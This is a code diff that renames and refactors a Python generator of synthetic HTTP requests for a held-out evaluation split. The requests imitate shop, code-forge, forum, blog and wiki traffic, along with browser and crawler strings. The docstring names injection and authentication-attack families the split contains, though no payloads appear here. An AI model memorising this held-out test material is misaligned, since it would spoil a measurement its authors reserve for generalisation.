@@ -1,32 +1,28 @@
-"""The fourth exam: sources written for it alone, that none of the sides of the split, the second exam or the third has.
+"""The unseen-protocols split: a measurement split whose every source is written here and nowhere else.
 
-``sources.EXAM4`` ("exam4") is a sixth side outside the hash split. It is drawn the way the third exam is (same kinds
-of request, same mix), but every source it draws from is here and nowhere else: browser releases after the third
-exam's, browsers none had (Xiaomi's and UC on Android, the Quest's, webOS TVs' and the Xbox's, Pale Moon, SeaMonkey)
-and new builds and in-app views of others (Opera and Silk on Android, Facebook's Android view, Opera, Ecosia, LinkedIn,
-Pinterest and TikTok on iOS), crawler releases and operators invented for it, library releases and new
-library members (niquests, fasthttp, go-git, Apple's git, superagent, xh, excon, http.rb, Symfony's client, PowerShell…),
-scanners, page shapes in URL conventions no other side uses (WooCommerce's Store API, Shopware, Magento's REST API,
-Medusa, Bitbucket Data Center, Gerrit, Azure DevOps, Redmine, Lemmy, Mastodon, the Matrix client API, Moodle, Blogger,
-Medium, Isso, WriteFreely, BookStack, Confluence, MediaWiki's api.php, DokuWiki, Jupyter, PostgREST, Strapi, Directus,
-tRPC, gRPC-web, Jira, Grafana, Ory Kratos, authentik, Supabase auth…), its own people's text (hard negatives included),
-payload productions in forms no other side writes plus families none of them has (JWT header abuse, SAML signature
-wrapping and transforms, open redirects and OAuth ``redirect_uri`` abuse, log injection with terminal escapes, Cypher
-injection, search-engine query injection, CSS injection), and probe families of their own.
+``sources.UNSEEN_PROTOCOLS`` ("unseen-protocols") is a side outside the hash split, drawn like the unseen-injections
+split, from sources none of the sides, the unseen-releases split or the unseen-injections split has: browser releases
+after the unseen-injections split's, browsers none had (Xiaomi's and UC on Android, the Quest's, webOS TVs' and the
+Xbox's, Pale Moon, SeaMonkey) and new builds and in-app views of others (Opera and Silk on Android, Facebook's
+Android view, Opera, Ecosia, LinkedIn, Pinterest and TikTok on iOS), crawler releases and invented operators, library
+releases and new library members (niquests, fasthttp, go-git, Apple's git, superagent, xh, excon, http.rb, Symfony's
+client, PowerShell…), scanners, page shapes in URL conventions no other side uses (WooCommerce's Store API,
+Shopware, Magento's REST API, Medusa, Bitbucket Data Center, Gerrit, Azure DevOps, Redmine, Lemmy, Mastodon, the
+Matrix client API, Moodle, Blogger, Medium, Isso, WriteFreely, BookStack, Confluence, MediaWiki's api.php, DokuWiki,
+Jupyter, PostgREST, Strapi, Directus, tRPC, gRPC-web, Jira, Grafana, Ory Kratos, authentik, Supabase auth…), its own
+people's text (hard negatives included), payload productions in forms no other side writes plus attack families on
+authentication and protocols none of them has (JWT header abuse, SAML signature wrapping and transforms, open
+redirects and OAuth ``redirect_uri`` abuse, log injection with terminal escapes, Cypher injection, search-engine
+query injection, CSS injection), and probe families of their own.
 
-It was built in session 17, after the third exam had been read twice: this one measures whether what was chosen
-with the third exam in view generalises to traffic newer and different from everything the model, its calibration and
-all three earlier measurements were drawn from. It is used only to measure, never to train, calibrate or choose.
-
-Text: the templates here draw people's text straight from the pools below (``_say``), not through ``site._text``, so
-the same items come out whatever side a ``site.Draw`` says it is on (the pools are the fourth exam's alone: there is
-nothing to hold out inside them).
+It measures whether a model generalises to traffic newer and different from everything the model, its calibration
+and the other measurement splits were drawn from. It is used only to measure, never to train, calibrate or choose.
+People's text comes from this module's own pools (``models.data.unseen.pick``).
 """
 
 from __future__ import annotations
 
 import base64
-import html
 import random
 from urllib.parse import quote
 
@@ -75,10 +71,11 @@ from models.data.sources import (
     safari_releases,
     search_crawler_release,
 )
+from models.data.unseen import invented, number, paragraph, people_query, pick
 
 # ---------------------------------------------------------------------------- browsers
 #
-# Releases after the third exam's newest (Chrome and Edge 151-156 in the reduced format, Firefox 153-158, Safari
+# Releases after the unseen-injections split's newest (Chrome and Edge 151-156 in the reduced format, Firefox 153-158, Safari
 # 27.1-28), Firefox on systems no side spells, and browsers and in-app views none had.
 
 _CHROME_BUILDS = {151: 7922, 152: 7970, 153: 8019, 154: 8066, 155: 8113, 156: 8160}
@@ -156,7 +153,7 @@ BROWSER_STRINGS: tuple[tuple[str, float], ...] = tuple(_browsers())
 # ---------------------------------------------------------------------------- crawlers
 
 
-# Operators invented for this exam (none is a real company): (format with {n}, tags, role), each in three versions.
+# Operators invented for this split (none is a real company): (format with {n}, tags, role), each in three versions.
 _INVENTED: tuple[tuple[str, tuple[str, ...], str], ...] = (
     ("Bramblefeed/{n}.1 (+https://bramblefeed.example/fetcher; 27 readers)", ("feed-reader",), "good"),
     ("Mozilla/5.0 (compatible; Lanternreader/2.{n}; +https://lanternreader.example/bot)", ("feed-reader",), "good"),
@@ -195,8 +192,7 @@ def _crawlers() -> list[tuple[str, tuple[str, ...], str]]:
                     (f"Mozilla/5.0 (X11; Linux x86_64; Storebot-Google/1.0) AppleWebKit/537.36 (KHTML, like Gecko) {chrome} Safari/537.36", search, "good"),
                     (f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/{v}.0.0.0 Safari/537.36", ("browser-automation",), "bad")]
     out += applebot_releases(("27.1", "27.2", "27.4", "28.0"), ("27.1", "27.3"))
-    for fmt, tags, role in _INVENTED:
-        out += [(fmt.format(n=n), tags, role) for n in (2, 5, 8)]
+    out += invented(_INVENTED, (2, 5, 8))
     return out
 
 
@@ -204,7 +200,7 @@ CRAWLER_STRINGS: tuple[tuple[str, tuple[str, ...], str], ...] = tuple(_crawlers(
 
 # ---------------------------------------------------------------------------- libraries and CLI tools
 #
-# Releases after the third exam's in each family's own format, and members of the families none had before (niquests
+# Releases after the unseen-injections split's in each family's own format, and members of the families none had before (niquests
 # for requests, fasthttp for go, go-git and Apple's git, superagent and needle for node, Vert.x's and Jetty's clients
 # for java, Insomnia beside Postman, xh beside HTTPie, excon and http.rb for ruby, Symfony's client and Drupal for php,
 # PowerShell for dotnet, NewsFlash and Akregator for the feed clients).
@@ -303,13 +299,9 @@ COMMENT_MARKDOWN: tuple[str, ...] = (
 )
 
 
-def _say(rng: random.Random, pool: tuple[str, ...]) -> str:
-    """One item of one of this module's pools (they are the fourth exam's alone: nothing inside them is held out)."""
-    return rng.choice(pool)
-
 
 def _query(rng: random.Random, hard_share: float = 0.35) -> str:
-    return _say(rng, HARD_QUERIES) if rng.random() < hard_share else _say(rng, QUERIES)
+    return people_query(rng, QUERIES, HARD_QUERIES, hard_share)
 
 
 # ---------------------------------------------------------------------------- page shapes
@@ -324,9 +316,6 @@ def _b64std(rng: random.Random, nbytes: int) -> str:
 def _ulid(rng: random.Random) -> str:
     return "01" + rng.choice("HJK") + "".join(rng.choice(_CROCKFORD) for _ in range(23))
 
-
-def _html_p(rng: random.Random, pool: tuple[str, ...]) -> str:
-    return f"<p>{html.escape(_say(rng, pool), quote=False)}</p>"
 
 
 def _ms(rng: random.Random) -> int:
@@ -368,14 +357,14 @@ def _blogger_path(rng: random.Random) -> str:
 
 def _isso_new(rng: random.Random) -> Endpoint:
     uri = quote(_blogger_path(rng), safe="")
-    body = {"text": _say(rng, rng.choice((FORUM_TEXT, REVIEW_TEXT))), "author": rng.choice(USERS).title(), "email": _email(rng) if rng.random() < 0.5 else "",
+    body = {"text": pick(rng, rng.choice((FORUM_TEXT, REVIEW_TEXT))), "author": rng.choice(USERS).title(), "email": _email(rng) if rng.random() < 0.5 else "",
             "website": None, "parent": rng.choice((None, None, rng.randint(1, 4000))), "title": rng.choice(TOPICS).replace("-", " ").capitalize(), "notification": 0}
     return Endpoint("POST", f"/new?uri={uri}", "xhr", "xhr_post", _compact(body), "application/json")
 
 
 def _matrix_send(rng: random.Random) -> Endpoint:
     room = quote(f"!{_b62(rng, 18)}:{rng.choice(_MATRIX)}", safe="")
-    body: dict[str, object] = {"msgtype": "m.text", "body": _say(rng, FORUM_TEXT)}
+    body: dict[str, object] = {"msgtype": "m.text", "body": pick(rng, FORUM_TEXT)}
     if rng.random() < 0.3:
         body["m.relates_to"] = {"m.in_reply_to": {"event_id": f"${_b64url(rng, 43)}"}}
     return Endpoint("PUT", f"/_matrix/client/v3/rooms/{room}/send/m.room.message/m{_ms(rng)}.{rng.randint(0, 40)}", "xhr", "xhr_post",
@@ -383,7 +372,7 @@ def _matrix_send(rng: random.Random) -> Endpoint:
 
 
 def _jupyter_save(rng: random.Random) -> Endpoint:
-    cells = [{"cell_type": "markdown", "metadata": {}, "source": [_say(rng, COMMENT_MARKDOWN)]},
+    cells = [{"cell_type": "markdown", "metadata": {}, "source": [pick(rng, COMMENT_MARKDOWN)]},
              {"cell_type": "code", "execution_count": rng.randint(1, 40), "metadata": {}, "outputs": [],
               "source": [rng.choice(("import pandas as pd\n", "df = pd.read_parquet('events.parquet')\n", "df.groupby('day').size().plot()\n"))]}]
     content = {"cells": cells, "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}}, "nbformat": 4, "nbformat_minor": 5}
@@ -457,149 +446,146 @@ def _jql(rng: random.Random) -> str:
 
 TEMPLATES: tuple[Template, ...] = (
     # --- shop: Shopware's SEO pages and forms, WooCommerce's shop pages and Store API, Magento's search and REST API, Medusa
-    Template("exam4.shop.pdp", "shop", "page", _page(lambda r: f"/{r.choice(_SHOPWARE_WORDS)}-{r.choice(NOUNS).title()}/SW{r.randint(10000, 99999)}{r.choice(('', '', '?variant=' + _hex(r, 32)))}")),
-    Template("exam4.shop.category", "shop", "page", _page(lambda r: f"/product-category/{r.choice(CATEGORIES)}/?orderby={r.choice(('popularity', 'price', 'price-desc', 'date'))}"
+    Template("unseen-protocols.shop.pdp", "shop", "page", _page(lambda r: f"/{r.choice(_SHOPWARE_WORDS)}-{r.choice(NOUNS).title()}/SW{r.randint(10000, 99999)}{r.choice(('', '', '?variant=' + _hex(r, 32)))}")),
+    Template("unseen-protocols.shop.category", "shop", "page", _page(lambda r: f"/product-category/{r.choice(CATEGORIES)}/?orderby={r.choice(('popularity', 'price', 'price-desc', 'date'))}"
                                                           + r.choice(('', f"&filter_color={r.choice(WORDS[:6])}&query_type_color=or", f"&min_price={r.randint(0, 40)}&max_price={r.randint(50, 400)}")))),
-    Template("exam4.shop.search", "shop", "search", _page(lambda r: f"/catalogsearch/result/?q={_q(_query(r), r)}{r.choice(('', '&product_list_order=price', '&product_list_mode=list'))}", "search")),
-    Template("exam4.shop.store_products", "shop", "xhr", lambda r: _xhr(f"/wp-json/wc/store/v1/products?category={r.randint(15, 90)}&per_page={r.choice((12, 24))}&page={r.randint(1, 8)}"
+    Template("unseen-protocols.shop.search", "shop", "search", _page(lambda r: f"/catalogsearch/result/?q={_q(_query(r), r)}{r.choice(('', '&product_list_order=price', '&product_list_mode=list'))}", "search")),
+    Template("unseen-protocols.shop.store_products", "shop", "xhr", lambda r: _xhr(f"/wp-json/wc/store/v1/products?category={r.randint(15, 90)}&per_page={r.choice((12, 24))}&page={r.randint(1, 8)}"
                                                                         f"&orderby={r.choice(('price', 'date', 'popularity'))}&order={r.choice(('asc', 'desc'))}")),
-    Template("exam4.shop.cart_add", "shop", "xhr_post", _rest("POST", lambda r: "/wp-json/wc/store/v1/cart/add-item", lambda r: {"id": r.randint(100, 99999), "quantity": r.randint(1, 3),
+    Template("unseen-protocols.shop.cart_add", "shop", "xhr_post", _rest("POST", lambda r: "/wp-json/wc/store/v1/cart/add-item", lambda r: {"id": r.randint(100, 99999), "quantity": r.randint(1, 3),
                                                                                                                          **({"variation": [{"attribute": "pa_size", "value": r.choice(("s", "m", "l"))}]} if r.random() < 0.4 else {})})),
-    Template("exam4.shop.cart_update", "shop", "xhr_post", _rest("PUT", lambda r: f"/rest/default/V1/guest-carts/{_b62(r, 32)}/items/{r.randint(1, 99999)}",
+    Template("unseen-protocols.shop.cart_update", "shop", "xhr_post", _rest("PUT", lambda r: f"/rest/default/V1/guest-carts/{_b62(r, 32)}/items/{r.randint(1, 99999)}",
                                                                  lambda r: {"cartItem": {"item_id": r.randint(1, 99999), "qty": r.randint(1, 5), "quote_id": _b62(r, 32)}})),
-    Template("exam4.shop.line_remove", "shop", "xhr_post", _rest("DELETE", lambda r: f"/store/carts/cart_{_ulid(r)}/line-items/item_{_ulid(r)}")),
-    Template("exam4.shop.review", "shop", "form", _form(lambda r: f"/product/{_hex(r, 32)}/rating",
-                                                        lambda r: {"points": str(r.randint(1, 5)), "title": _say(r, REVIEW_TEXT)[:36], "content": _say(r, REVIEW_TEXT),
+    Template("unseen-protocols.shop.line_remove", "shop", "xhr_post", _rest("DELETE", lambda r: f"/store/carts/cart_{_ulid(r)}/line-items/item_{_ulid(r)}")),
+    Template("unseen-protocols.shop.review", "shop", "form", _form(lambda r: f"/product/{_hex(r, 32)}/rating",
+                                                        lambda r: {"points": str(r.randint(1, 5)), "title": pick(r, REVIEW_TEXT)[:36], "content": pick(r, REVIEW_TEXT),
                                                                    "forwardTo": "frontend.detail.page", "forwardParameters": _compact({"productId": _hex(r, 32)})})),
-    Template("exam4.shop.login", "shop", "login", _form(lambda r: "/my-account/", lambda r: {"username": _email(r) if r.random() < 0.7 else r.choice(USERS), "password": _password(r),
+    Template("unseen-protocols.shop.login", "shop", "login", _form(lambda r: "/my-account/", lambda r: {"username": _email(r) if r.random() < 0.7 else r.choice(USERS), "password": _password(r),
                                                                                              **({"rememberme": "forever"} if r.random() < 0.4 else {}),
                                                                                              "woocommerce-login-nonce": _hex(r, 10), "_wp_http_referer": "/my-account/", "login": "Log in"})),
     # --- forge: Bitbucket Data Center, Redmine, Azure DevOps, Gerrit
-    Template("exam4.forge.browse", "forge", "page", _page(lambda r: f"/projects/{r.choice(_KEYS)}/repos/{r.choice(REPOS)}/browse/{r.choice(FILES)}"
+    Template("unseen-protocols.forge.browse", "forge", "page", _page(lambda r: f"/projects/{r.choice(_KEYS)}/repos/{r.choice(REPOS)}/browse/{r.choice(FILES)}"
                                                           + r.choice(('', f"?at=refs%2Fheads%2F{quote(r.choice(BRANCHES), safe='')}", f"?at={_hex(r, 40)}")))),
-    Template("exam4.forge.search", "forge", "search", _page(lambda r: f"/{r.choice(_ORGS)}/{r.choice(REPOS)}/_search?text={_q(_query(r, 0.5), r)}&type=code&lp=code-Project"
+    Template("unseen-protocols.forge.search", "forge", "search", _page(lambda r: f"/{r.choice(_ORGS)}/{r.choice(REPOS)}/_search?text={_q(_query(r, 0.5), r)}&type=code&lp=code-Project"
                                                            f"&filters=Repository%7B{r.choice(REPOS)}%7D&pageSize=25", "search")),
-    Template("exam4.forge.changes", "forge", "xhr", lambda r: _xhr(f"/changes/?O={r.choice(('81', '1000081', '5000081'))}&S={r.choice((0, 25, 50))}&n=25&q="
+    Template("unseen-protocols.forge.changes", "forge", "xhr", lambda r: _xhr(f"/changes/?O={r.choice(('81', '1000081', '5000081'))}&S={r.choice((0, 25, 50))}&n=25&q="
                                                                    + quote(f"status:open -is:wip project:{r.choice(REPOS)}", safe=":"))),
-    Template("exam4.forge.pr_approve", "forge", "xhr_post", _rest("PUT", lambda r: f"/rest/api/latest/projects/{r.choice(_KEYS)}/repos/{r.choice(REPOS)}/pull-requests/{r.randint(1, 4000)}/participants/{r.choice(USERS)}",
+    Template("unseen-protocols.forge.pr_approve", "forge", "xhr_post", _rest("PUT", lambda r: f"/rest/api/latest/projects/{r.choice(_KEYS)}/repos/{r.choice(REPOS)}/pull-requests/{r.randint(1, 4000)}/participants/{r.choice(USERS)}",
                                                                   lambda r: {"status": r.choice(("APPROVED", "NEEDS_WORK", "UNAPPROVED")), "lastReviewedCommit": _hex(r, 40)})),
-    Template("exam4.forge.thread_edit", "forge", "xhr_post", _rest("PATCH", lambda r: f"/{r.choice(_ORGS)}/{_uuid(r)}/_apis/git/repositories/{_uuid(r)}/pullRequests/{r.randint(1, 9000)}"
-                                                                   f"/threads/{r.randint(1, 400)}/comments/{r.randint(1, 9)}?api-version=7.1", lambda r: {"content": _say(r, COMMENT_MARKDOWN)})),
-    Template("exam4.forge.review", "forge", "xhr_post", _rest("POST", lambda r: f"/changes/{r.choice(REPOS)}~{r.randint(1000, 99999)}/revisions/current/review",
-                                                              lambda r: {"labels": {"Code-Review": r.choice((-1, 1, 2))}, "message": _say(r, COMMENT_MARKDOWN), "tag": "autogenerated:web" if r.random() < 0.1 else None})),
-    Template("exam4.forge.refs", "forge", "git", lambda r: Endpoint("GET", f"/scm/{r.choice(_KEYS).lower()}/{r.choice(REPOS)}.git/info/refs?service=git-upload-pack", "git")),
-    Template("exam4.forge.partial_fetch", "forge", "git", lambda r: Endpoint("POST", f"/a/{r.choice(REPOS)}/git-upload-pack", "git", body=_partial_fetch(r),
+    Template("unseen-protocols.forge.thread_edit", "forge", "xhr_post", _rest("PATCH", lambda r: f"/{r.choice(_ORGS)}/{_uuid(r)}/_apis/git/repositories/{_uuid(r)}/pullRequests/{r.randint(1, 9000)}"
+                                                                   f"/threads/{r.randint(1, 400)}/comments/{r.randint(1, 9)}?api-version=7.1", lambda r: {"content": pick(r, COMMENT_MARKDOWN)})),
+    Template("unseen-protocols.forge.review", "forge", "xhr_post", _rest("POST", lambda r: f"/changes/{r.choice(REPOS)}~{r.randint(1000, 99999)}/revisions/current/review",
+                                                              lambda r: {"labels": {"Code-Review": r.choice((-1, 1, 2))}, "message": pick(r, COMMENT_MARKDOWN), "tag": "autogenerated:web" if r.random() < 0.1 else None})),
+    Template("unseen-protocols.forge.refs", "forge", "git", lambda r: Endpoint("GET", f"/scm/{r.choice(_KEYS).lower()}/{r.choice(REPOS)}.git/info/refs?service=git-upload-pack", "git")),
+    Template("unseen-protocols.forge.partial_fetch", "forge", "git", lambda r: Endpoint("POST", f"/a/{r.choice(REPOS)}/git-upload-pack", "git", body=_partial_fetch(r),
                                                                             content_type="application/x-git-upload-pack-request")),
-    Template("exam4.forge.api_prs", "forge", "api", lambda r: Endpoint("GET", f"/{r.choice(_ORGS)}/{r.choice(REPOS)}/_apis/git/repositories/{r.choice(REPOS)}/pullrequests"
+    Template("unseen-protocols.forge.api_prs", "forge", "api", lambda r: Endpoint("GET", f"/{r.choice(_ORGS)}/{r.choice(REPOS)}/_apis/git/repositories/{r.choice(REPOS)}/pullrequests"
                                                                        f"?searchCriteria.status={r.choice(('active', 'completed'))}&$top={r.choice((25, 50, 100))}&api-version=7.1", "api")),
-    Template("exam4.forge.note", "forge", "form", _form(lambda r: f"/issues/{r.randint(1, 30000)}",
-                                                        lambda r: {"utf8": "\u2713", "_method": "patch", "authenticity_token": _b64url(r, 86), "issue[notes]": _say(r, COMMENT_MARKDOWN),
+    Template("unseen-protocols.forge.note", "forge", "form", _form(lambda r: f"/issues/{r.randint(1, 30000)}",
+                                                        lambda r: {"utf8": "\u2713", "_method": "patch", "authenticity_token": _b64url(r, 86), "issue[notes]": pick(r, COMMENT_MARKDOWN),
                                                                    "issue[private_notes]": "0", "last_journal_id": str(r.randint(1, 90000)), "commit": "Submit"})),
-    Template("exam4.forge.login", "forge", "login", _form(lambda r: "/j_atl_security_check", lambda r: {"j_username": r.choice(USERS), "j_password": _password(r), "_atl_remember_me": "on",
+    Template("unseen-protocols.forge.login", "forge", "login", _form(lambda r: "/j_atl_security_check", lambda r: {"j_username": r.choice(USERS), "j_password": _password(r), "_atl_remember_me": "on",
                                                                                                         "next": "/projects", "queryString": "next=/projects", "submit": "Log in"})),
     # --- forum: Lemmy, Mastodon, Moodle's forums, the Matrix client API
-    Template("exam4.forum.post", "forum", "page", _page(lambda r: r.choice((f"/post/{r.randint(1, 9_999_999)}", f"/comment/{r.randint(1, 29_999_999)}",
+    Template("unseen-protocols.forum.post", "forum", "page", _page(lambda r: r.choice((f"/post/{r.randint(1, 9_999_999)}", f"/comment/{r.randint(1, 29_999_999)}",
                                                                              f"/c/{r.choice(_COMMUNITIES)}@{r.choice(_INSTANCES)}?dataType=Post&sort={r.choice(('Active', 'Hot', 'TopDay', 'New'))}")))),
-    Template("exam4.forum.status", "forum", "page", _page(lambda r: r.choice((f"/@{r.choice(USERS)}/{r.randint(112 * 10**15, 116 * 10**15)}",
+    Template("unseen-protocols.forum.status", "forum", "page", _page(lambda r: r.choice((f"/@{r.choice(USERS)}/{r.randint(112 * 10**15, 116 * 10**15)}",
                                                                                f"/@{r.choice(USERS)}@{r.choice(_INSTANCES)}/{r.randint(112 * 10**15, 116 * 10**15)}",
                                                                                f"/tags/{r.choice(TAGS)}")))),
-    Template("exam4.forum.search", "forum", "search", _page(lambda r: f"/search?q={_q(_query(r, 0.5), r)}&type={r.choice(('All', 'Posts', 'Comments'))}&listingType=All&page=1&sort=TopAll", "search")),
-    Template("exam4.forum.timeline", "forum", "xhr", lambda r: _xhr(r.choice((f"/api/v1/timelines/tag/{r.choice(TAGS)}?limit=20&max_id={r.randint(112 * 10**15, 116 * 10**15)}",
+    Template("unseen-protocols.forum.search", "forum", "search", _page(lambda r: f"/search?q={_q(_query(r, 0.5), r)}&type={r.choice(('All', 'Posts', 'Comments'))}&listingType=All&page=1&sort=TopAll", "search")),
+    Template("unseen-protocols.forum.timeline", "forum", "xhr", lambda r: _xhr(r.choice((f"/api/v1/timelines/tag/{r.choice(TAGS)}?limit=20&max_id={r.randint(112 * 10**15, 116 * 10**15)}",
                                                                                "/api/v1/timelines/public?local=true&limit=40",
                                                                                f"/api/v3/post/list?community_name={r.choice(_COMMUNITIES)}&sort={r.choice(('Hot', 'Active', 'New'))}&page={r.randint(1, 9)}&limit=20&type_=All",
                                                                                f"/api/v2/search?q={quote(_query(r, 0.5), safe='')}&resolve=true&limit=5")))),
-    Template("exam4.forum.favourite", "forum", "xhr_post", _rest("POST", lambda r: f"/api/v1/statuses/{r.randint(112 * 10**15, 116 * 10**15)}/{r.choice(('favourite', 'reblog', 'bookmark'))}")),
-    Template("exam4.forum.matrix_send", "forum", "xhr_post", _matrix_send),
-    Template("exam4.forum.status_delete", "forum", "xhr_post", _rest("DELETE", lambda r: f"/api/v1/statuses/{r.randint(112 * 10**15, 116 * 10**15)}")),
-    Template("exam4.forum.reply", "forum", "form", _form(lambda r: "/mod/forum/post.php",
+    Template("unseen-protocols.forum.favourite", "forum", "xhr_post", _rest("POST", lambda r: f"/api/v1/statuses/{r.randint(112 * 10**15, 116 * 10**15)}/{r.choice(('favourite', 'reblog', 'bookmark'))}")),
+    Template("unseen-protocols.forum.matrix_send", "forum", "xhr_post", _matrix_send),
+    Template("unseen-protocols.forum.status_delete", "forum", "xhr_post", _rest("DELETE", lambda r: f"/api/v1/statuses/{r.randint(112 * 10**15, 116 * 10**15)}")),
+    Template("unseen-protocols.forum.reply", "forum", "form", _form(lambda r: "/mod/forum/post.php",
                                                          lambda r: {"reply": str(r.randint(1, 90000)), "forum": str(r.randint(1, 900)), "discussion": str(r.randint(1, 60000)),
-                                                                    "subject": "Re: " + r.choice(TOPICS).replace("-", " "), "message[text]": _html_p(r, FORUM_TEXT), "message[format]": "1",
+                                                                    "subject": "Re: " + r.choice(TOPICS).replace("-", " "), "message[text]": paragraph(r, FORUM_TEXT), "message[format]": "1",
                                                                     "sesskey": _b62(r, 10), "_qf__mod_forum_post_form": "1", "submitbutton": "Post to forum"})),
-    Template("exam4.forum.login", "forum", "login", lambda r: (_form(lambda q: "/auth/sign_in", lambda q: {"authenticity_token": _b64url(q, 86), "user[email]": _email(q),
+    Template("unseen-protocols.forum.login", "forum", "login", lambda r: (_form(lambda q: "/auth/sign_in", lambda q: {"authenticity_token": _b64url(q, 86), "user[email]": _email(q),
                                                                                                        "user[password]": _password(q), "button": ""})(r) if r.random() < 0.6 else
                                                                _form(lambda q: "/login/index.php", lambda q: {"anchor": "", "logintoken": _b62(q, 32), "username": q.choice(USERS),
                                                                                                           "password": _password(q)})(r))),
-    Template("exam4.forum.feed", "forum", "feed", lambda r: Endpoint("GET", r.choice((f"/@{r.choice(USERS)}.rss", f"/tags/{r.choice(TAGS)}.rss",
+    Template("unseen-protocols.forum.feed", "forum", "feed", lambda r: Endpoint("GET", r.choice((f"/@{r.choice(USERS)}.rss", f"/tags/{r.choice(TAGS)}.rss",
                                                                                      f"/feeds/c/{r.choice(_COMMUNITIES)}.xml?sort={r.choice(('Active', 'New'))}", "/feeds/local.xml?sort=Hot")), "feed")),
     # --- blog: Blogger, Medium, Isso comments, Netlify's forms, WriteFreely
-    Template("exam4.blog.post", "blog", "page", _page(lambda r: _blogger_path(r) + r.choice(("", "", "?m=1", f"?showComment={_ms(r)}")))),
-    Template("exam4.blog.medium", "blog", "page", _page(lambda r: r.choice((f"/@{r.choice(USERS)}/{r.choice(TOPICS)}-{_hex(r, 12)}", f"/{r.choice(TAGS)}-weekly/{r.choice(TOPICS)}-{_hex(r, 12)}")))),
-    Template("exam4.blog.search", "blog", "search", _page(lambda r: f"/search?q={_q(_query(r), r)}&max-results=20&by-date={r.choice(('true', 'false'))}", "search")),
-    Template("exam4.blog.comments", "blog", "xhr", lambda r: _xhr(f"/?uri={quote(_blogger_path(r), safe='')}&nested_limit=5&limit={r.choice((20, 50))}&after=0&plain=0")),
-    Template("exam4.blog.isso_new", "blog", "xhr_post", _isso_new),
-    Template("exam4.blog.isso_edit", "blog", "xhr_post", _rest("PUT", lambda r: f"/id/{r.randint(1, 40000)}", lambda r: {"text": _say(r, FORUM_TEXT), "author": r.choice(USERS).title(), "website": None})),
-    Template("exam4.blog.contact", "blog", "form", _form(lambda r: r.choice(("/", "/contact/")), lambda r: {"form-name": "contact", "bot-field": "", "name": r.choice(USERS).title(), "email": _email(r),
-                                                                                                          "message": _say(r, r.choice((FORUM_TEXT, REVIEW_TEXT)))})),
-    Template("exam4.blog.login", "blog", "login", _form(lambda r: "/auth/login", lambda r: {"alias": r.choice(USERS), "pass": _password(r), "to": r.choice(("/me/c/", "/me/new", ""))})),
-    Template("exam4.blog.feed", "blog", "feed", lambda r: Endpoint("GET", r.choice((f"/feed/@{r.choice(USERS)}", f"/feed/{r.choice(TAGS)}-weekly", f"/{r.choice(USERS)}/feed/")), "feed")),
+    Template("unseen-protocols.blog.post", "blog", "page", _page(lambda r: _blogger_path(r) + r.choice(("", "", "?m=1", f"?showComment={_ms(r)}")))),
+    Template("unseen-protocols.blog.medium", "blog", "page", _page(lambda r: r.choice((f"/@{r.choice(USERS)}/{r.choice(TOPICS)}-{_hex(r, 12)}", f"/{r.choice(TAGS)}-weekly/{r.choice(TOPICS)}-{_hex(r, 12)}")))),
+    Template("unseen-protocols.blog.search", "blog", "search", _page(lambda r: f"/search?q={_q(_query(r), r)}&max-results=20&by-date={r.choice(('true', 'false'))}", "search")),
+    Template("unseen-protocols.blog.comments", "blog", "xhr", lambda r: _xhr(f"/?uri={quote(_blogger_path(r), safe='')}&nested_limit=5&limit={r.choice((20, 50))}&after=0&plain=0")),
+    Template("unseen-protocols.blog.isso_new", "blog", "xhr_post", _isso_new),
+    Template("unseen-protocols.blog.isso_edit", "blog", "xhr_post", _rest("PUT", lambda r: f"/id/{r.randint(1, 40000)}", lambda r: {"text": pick(r, FORUM_TEXT), "author": r.choice(USERS).title(), "website": None})),
+    Template("unseen-protocols.blog.contact", "blog", "form", _form(lambda r: r.choice(("/", "/contact/")), lambda r: {"form-name": "contact", "bot-field": "", "name": r.choice(USERS).title(), "email": _email(r),
+                                                                                                          "message": pick(r, r.choice((FORUM_TEXT, REVIEW_TEXT)))})),
+    Template("unseen-protocols.blog.login", "blog", "login", _form(lambda r: "/auth/login", lambda r: {"alias": r.choice(USERS), "pass": _password(r), "to": r.choice(("/me/c/", "/me/new", ""))})),
+    Template("unseen-protocols.blog.feed", "blog", "feed", lambda r: Endpoint("GET", r.choice((f"/feed/@{r.choice(USERS)}", f"/feed/{r.choice(TAGS)}-weekly", f"/{r.choice(USERS)}/feed/")), "feed")),
     # --- docs: BookStack, Confluence, MediaWiki's API, DokuWiki, Jupyter
-    Template("exam4.docs.book", "docs", "page", _page(lambda r: r.choice((f"/books/{r.choice(REPOS)}/page/{r.choice(PAGES)}{r.choice(('', '/revisions'))}",
+    Template("unseen-protocols.docs.book", "docs", "page", _page(lambda r: r.choice((f"/books/{r.choice(REPOS)}/page/{r.choice(PAGES)}{r.choice(('', '/revisions'))}",
                                                                            f"/books/{r.choice(REPOS)}/chapter/{r.choice(SECTIONS)}")))),
-    Template("exam4.docs.confluence", "docs", "page", _page(lambda r: f"/wiki/spaces/{r.choice(_KEYS)}/pages/{r.randint(10**5, 10**9)}/{r.choice(WORDS).title()}+{r.choice(PAGES).title()}")),
-    Template("exam4.docs.search", "docs", "search", _page(lambda r: f"/search?term={_q(_query(r, 0.5) + r.choice(('', '', ' {type:page}', ' [tag=' + r.choice(TAGS) + ']')), r)}", "search")),
-    Template("exam4.docs.mw_api", "docs", "xhr", lambda r: _xhr(r.choice((f"/w/api.php?action=parse&page={r.choice(PAGES).title()}_{r.choice(NOUNS)}&prop=text%7Csections&formatversion=2&format=json",
+    Template("unseen-protocols.docs.confluence", "docs", "page", _page(lambda r: f"/wiki/spaces/{r.choice(_KEYS)}/pages/{r.randint(10**5, 10**9)}/{r.choice(WORDS).title()}+{r.choice(PAGES).title()}")),
+    Template("unseen-protocols.docs.search", "docs", "search", _page(lambda r: f"/search?term={_q(_query(r, 0.5) + r.choice(('', '', ' {type:page}', ' [tag=' + r.choice(TAGS) + ']')), r)}", "search")),
+    Template("unseen-protocols.docs.mw_api", "docs", "xhr", lambda r: _xhr(r.choice((f"/w/api.php?action=parse&page={r.choice(PAGES).title()}_{r.choice(NOUNS)}&prop=text%7Csections&formatversion=2&format=json",
                                                                          f"/w/api.php?action=query&list=search&srsearch={quote(_query(r, 0.5), safe='')}&srlimit=10&format=json&origin=*")))),
-    Template("exam4.docs.cql", "docs", "xhr", lambda r: _xhr("/wiki/rest/api/search?cql=" + quote(f'siteSearch ~ "{_query(r, 0.5)}" AND type in (page,blogpost)', safe="")
